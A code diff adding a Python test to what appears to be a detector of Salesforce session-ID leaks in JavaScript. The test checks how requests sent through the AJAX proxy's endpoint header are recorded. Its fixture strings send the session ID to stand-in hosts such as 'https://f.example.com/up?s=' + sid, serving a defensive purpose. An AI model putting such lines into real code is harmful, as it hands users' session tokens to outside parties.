@@ -276,6 +276,23 @@ def test_axios_defaults_base_url_and_no_requests() -> None:
                                                          ("axios.create", "defaults:axios")]
 
 
+def test_a_request_to_the_ajax_proxy_goes_to_its_endpoint_header() -> None:
+    """W-1: `/services/proxy` forwards a request to its `SalesforceProxy-Endpoint` header's URL,
+    set before or after the session's header; a session in that URL is in the URL."""
+    ir = lower(SID + "var x = new XMLHttpRequest();\nx.open('POST', '/services/proxy');\n"
+               "x.setRequestHeader('Authorization', 'Bearer ' + sid);\n"
+               "x.setRequestHeader('SalesforceProxy-Endpoint', 'https://f.example.com/up?s=' + sid);\nx.send();")
+    header_uses = [u for u in ir.url_uses if u.sink == "XMLHttpRequest.setRequestHeader"]
+    assert [(u.url, u.in_query, u.header_or_body) for u in header_uses] == [
+        ("https://f.example.com/up?s={sforce.connection.sessionId}", False, True),
+        ("https://f.example.com/up?s={sforce.connection.sessionId}", True, False),
+    ]
+    plain = lower(SID + "var x = new XMLHttpRequest();\nx.open('GET', '/services/data/v60.0/limits');\n"
+                  "x.setRequestHeader('SalesforceProxy-Endpoint', 'https://f.example.com/');\n"
+                  "x.setRequestHeader('Authorization', sid);")
+    assert sink(plain, "XMLHttpRequest.setRequestHeader").url == "/services/data/v60.0/limits"
+
+
 def test_navigation_image_and_beacon_sinks() -> None:
     code = SID + (
         "window.location.href = 'https://r.example.com/?sid=' + sid;\n"
